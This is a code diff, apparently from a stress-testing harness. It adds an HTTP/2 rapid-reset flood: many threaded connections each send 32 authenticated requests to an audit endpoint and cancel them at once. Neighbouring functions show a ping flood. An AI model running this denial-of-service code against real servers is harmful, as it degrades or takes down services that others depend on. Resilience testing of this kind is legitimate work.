@@ -85,6 +85,25 @@ def rapid_reset(attack):
     _repeat(attack, flood)
 
 
+def reset_work(attack, connections=64, spread=8):
+    """Requests that wait for their turn to work, taken back while they wait, on one connection after the other."""
+    token = attack.tenant.token
+
+    def one(index):
+        connection = http2.Connection(attack.tls(index % spread, "h2"))
+        try:
+            frames = []
+            for stream in range(1, 64, 2):
+                frames += [http2.request(stream, "/api/v1/audit?limit=200", token=token), http2.reset(stream)]
+            connection.send(*frames)
+            attack.count("streams", 32)
+            time.sleep(0.05)
+        finally:
+            connection.close()
+
+    attack.repeat(one, threads=connections)
+
+
 def ping(attack):
     """Pings whose answers are not read."""
     text = http2.frame(http2.PING, 0, 0, b"01234567") * 500
